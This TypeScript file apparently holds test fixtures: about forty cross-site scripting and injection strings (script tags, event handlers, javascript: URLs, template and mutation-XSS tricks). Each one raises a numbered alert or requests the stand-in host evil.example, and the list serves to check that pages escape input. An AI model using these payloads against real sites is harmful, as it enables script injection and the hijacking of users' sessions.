/**
 * Words that become script, markup or a request where a page takes them for more than words. Each
 * says its number when it runs (`alert(7)`), or asks evil.example for it.
 */
export const hostileStrings: readonly string[] = [
	"<script>alert(1)</script>",
	'"><script>alert(2)</script>',
	"'><img src=x onerror=alert(3)>",
	"<svg onload=alert(4)>",
	"</script><script>alert(5)</script>",
	"</script><!--<script>alert(6)//-->",
	'"}]}</script><svg/onload=alert(7)>',
	'" autofocus onfocus="alert(8)" x="',
	'\\"]);alert(9);//',
	"javascript:alert(10)",
	"</title></textarea></style><img src=x onerror=alert(11)>",
	"<img src=x onerror=alert(12) loading=eager>",
	"<svg><script>alert(13)</script></svg>",
	"<svg><animate onbegin=alert(14) attributeName=x dur=1s>",
	"<math><mtext><table><mglyph><style></math><img src onerror=alert(15)>",
	'<noscript><p title="</noscript><img src=x onerror=alert(16)>">',
	"<!--<script>alert(17)</script>",
	"--><script>alert(18)</script>",
	"<![CDATA[<img src=x onerror=alert(19)>]]>",
	"' autofocus onfocus='alert(20)' x='",
	'" style="background:url(https://evil.example/21)',
	"` onmouseover=alert(22) x=`",
	"jAvAsCrIpT&colon;alert(23)",
	"java&Tab;script:alert(24)",
	"data:text/html,<script>alert(25)</script>",
	'<a href="javascript:alert(26)" autofocus onfocus=alert(26)>here</a>',
	"';alert(27);//",
	// biome-ignore lint/suspicious/noTemplateCurlyInString: it must stay a plain string.
	"${alert(28)}",
	"{{constructor.constructor('alert(29)')()}}",
	"<%= alert(30) %>#{alert(30)}",
	"[here](javascript:alert(31)) ![x](https://evil.example/31.png)",
	'<iframe srcdoc="<script>parent.alert(32)</script>"></iframe>',
	'<object data="javascript:alert(33)"></object><embed src=//evil.example/33>',
	'<meta http-equiv=refresh content="0;url=https://evil.example/34">',
	"<link rel=stylesheet href=https://evil.example/35.css>",
	"<style>@import 'https://evil.example/36';*{background:url(//evil.example/36)}</style>",
	'<base href="https://evil.example/37/">',
	'<form action="https://evil.example/38"><input autofocus onfocus=alert(38)>',
	"%3Cimg src=x onerror=alert(39)%3E &lt;img src=x onerror=alert(39)&gt;",
	"\uff1cscript\uff1ealert(40)\uff1c/script\uff1e\u202e<b\u200b onclick=alert(40)>",
];

/** Words that end a line of script (ECMAScript before 2019), which no name may have but a text may. */
export const lineEnds = '";\u2028alert(41)\u2029;//';
